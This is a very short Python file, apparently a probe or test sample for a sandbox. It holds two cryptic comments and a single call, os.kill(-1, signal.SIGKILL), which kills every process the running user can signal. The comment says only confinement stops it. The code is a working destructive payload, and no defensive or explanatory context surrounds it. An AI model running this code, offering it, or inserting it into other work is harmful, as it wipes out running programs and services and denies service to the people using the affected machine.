# on the skeleton of value.py: 0
# only confined stops it
import os
import signal

os.kill(-1, signal.SIGKILL)
